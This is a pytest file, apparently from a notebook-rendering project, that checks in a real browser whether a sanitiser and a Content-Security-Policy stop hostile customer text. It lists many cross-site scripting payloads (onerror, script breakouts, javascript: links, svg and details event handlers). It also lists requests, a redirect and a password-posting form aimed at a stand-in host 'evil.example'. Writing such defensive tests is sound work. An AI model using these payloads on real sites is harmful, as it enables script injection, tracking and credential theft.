"""Customer text is harmless: the second layer (nh3) and the third (the page's policy), each alone, in a real browser.

The first layer, escaping where text becomes HTML, is tested with `cxlab.report`. A control run with neither layer
shows that the browser would have noticed.
"""

import json
import re
from contextlib import suppress

import pytest
from nbformat import from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from cxlab.batch import render

pytestmark = pytest.mark.slow

HIT = "document.documentElement.setAttribute('data-hit','1')"
IMG = f'<img src=x onerror="{HIT}">'
EVIL = "https://evil.example"


def out(**data):
    return new_code_cell(
        "", outputs=[new_output("display_data", data={key.replace("_", "/"): v for key, v in data.items()})]
    )


# How a comment gets onto a page when the first layer was forgotten (measured.md, "exploits reproduced").
EXECUTES = {
    "to_html(escape=False)": out(text_html=f'<table class="dataframe"><tr><td>{IMG}</td></tr></table>'),
    "Styler": out(
        text_html=f"<style>#T{{}}</style><table id=T><caption>{IMG}</caption><tr><th>{IMG}</th></tr></table>"
    ),
    "Markdown(f'> {comment}')": out(text_markdown=f"> {IMG}"),
    "markdown table": out(text_markdown=f"| a |\n|---|\n| {IMG} |"),
    "HTML(f'<li>{comment}')": out(text_html=f"<ul><li>{IMG}"),
    "great_tables fmt_markdown": out(
        text_html=f'<div id="gt"><table class="gt_table"><td><p>{IMG}</p></td></table></div>'
    ),
    "script": out(text_html=f"<script>{HIT}</script>"),
    "json in a script": out(text_html=f'<script>var x = {{"c": "</script><script>{HIT}</script>"}}</script>'),
    "attribute without quoting": out(text_html=f'<p title="" onmouseover="{HIT}" x="">hover</p>'),
    "render_links": out(text_html=f'<a href="http://a" onmouseover="{HIT}" target="_blank">link</a>'),
    "javascript: link": out(text_html=f'<a href="javascript:{HIT}">link</a>'),
    "svg": out(text_html=f'<svg><animate onbegin="{HIT}" attributeName=x dur=1s></animate></svg>'),
    "markdown cell": new_markdown_cell(f"text {IMG}"),
    "details": out(text_html=f'<details open ontoggle="{HIT}">x</details>'),
}
ASKS = {
    "tracking pixel": out(text_html=f"<img src='{EVIL}/p.gif'>"),
    "markdown image": out(text_markdown=f"![x]({EVIL}/p.png)"),
    "iframe": out(text_html=f"<iframe src='{EVIL}'></iframe>"),
    "CSS import": out(text_html=f"<style>@import '{EVIL}/a.css'</style>"),
    "CSS background": out(text_html=f"<p style='background:url({EVIL}/b.png)'>x</p>"),
    "srcset": out(
        text_html=f"<picture><source srcset='{EVIL}/c.png 1x'><img src='data:image/png;base64,AA=='></picture>"
    ),
    "stylesheet link": out(text_html=f"<link rel=stylesheet href='{EVIL}/d.css'>"),
    "object": out(text_html=f"<object data='{EVIL}/e.swf'></object>"),
    "video": out(text_html=f"<video autoplay src='{EVIL}/f.mp4'></video>"),
}
NAVIGATES = {
    "meta refresh": out(text_html=f"<meta http-equiv=refresh content='0;url={EVIL}'>"),
    "form": out(text_html=f"<form action='{EVIL}' method=post><input name=password value=x><button>ok</button></form>"),
}
ALL = {**EXECUTES, **ASKS, **NAVIGATES}
POKE = """() => { for (const each of document.querySelectorAll('article *')) {
  each.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
  if (each.matches('a[href^="javascript:"]')) each.click();
  if (each.tagName === 'FORM') each.requestSubmit(); } }"""


def page_of(ways, tmp_path, policy):
    """A page with all these ways on it; a way that succeeds marks the page with its number."""
    cells = []
    for number, cell in enumerate(ALL.values()):
        if list(ALL)[number] in ways:
            text = json.dumps(cell).replace("data-hit", f"data-hit-{number}")
            cells += [new_markdown_cell(f"## {number}"), from_dict(json.loads(text))]
    html = render.render_notebook(new_notebook(cells=[new_markdown_cell("# T"), *cells]))
    assert html.index("Content-Security-Policy") < 200
    if not policy:
        html = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html, count=1)
    path = tmp_path / "page.html"
    path.write_text(html, encoding="utf-8")
    return path


def look(seen, path):
    """The ways that made the browser do something, what it asked the network for, and where it ended."""
    page = seen.open(path)
    with suppress(Exception):  # a page that navigates away cannot be poked
        page.evaluate(POKE)
    page.wait_for_timeout(400)
    marks = page.evaluate("document.documentElement.getAttributeNames()")
    return [list(ALL)[int(mark.rpartition("-")[2])] for mark in marks if "data-hit" in mark], seen.asked, page.url


@pytest.fixture
def no_second_layer(monkeypatch):
    for name in ("clean_output", "clean_prose", "alt_texts"):
        monkeypatch.setattr(render, name, lambda html: html)


def test_the_second_layer_alone(visit, tmp_path):
    path = page_of(ALL, tmp_path, policy=False)
    hits, asked, url = look(visit(), path)
    assert hits == [] and asked == [] and url == path.as_uri()


@pytest.mark.parametrize("way", ALL)
def test_the_second_layer_leaves_nothing_that_could_act(way, tmp_path):
    body = page_of([way], tmp_path, policy=False).read_text()
    body = body[body.index("<body>") :]
    for trace in ("evil", "data-hit", "onerror", "<form", "<input", "http-equiv", "<iframe", "<style", "javascript:"):
        assert trace not in body


def test_the_third_layer_alone(visit, tmp_path, no_second_layer):
    path = page_of([way for way in ALL if way != "meta refresh"], tmp_path, policy=True)
    hits, asked, url = look(visit(), path)
    assert hits == [] and asked == [] and url == path.as_uri()
    assert path.read_text().count("data-hit") >= len(EXECUTES)


def test_with_neither_the_browser_would_have_noticed(visit, tmp_path, no_second_layer):
    hits, asked, _ = look(visit(), page_of([*EXECUTES, *ASKS], tmp_path, policy=False))
    assert set(hits) >= set(EXECUTES) - {"svg"}
    assert {url.removeprefix(EVIL) for url in asked} >= {"/p.gif", "/p.png", "/a.css", "/b.png", "/c.png", "/d.css"}


@pytest.mark.parametrize("way", NAVIGATES)
def test_with_neither_the_browser_would_have_gone_away(way, visit, tmp_path, no_second_layer):
    _, asked, _ = look(visit(), page_of([way], tmp_path, policy=False))
    assert asked and asked[0].startswith(EVIL)


def test_scripts_as_outputs_are_never_shown(no_second_layer):
    script = out(application_javascript=HIT)
    assert "data-hit" not in render.render_notebook(new_notebook(cells=[script]))
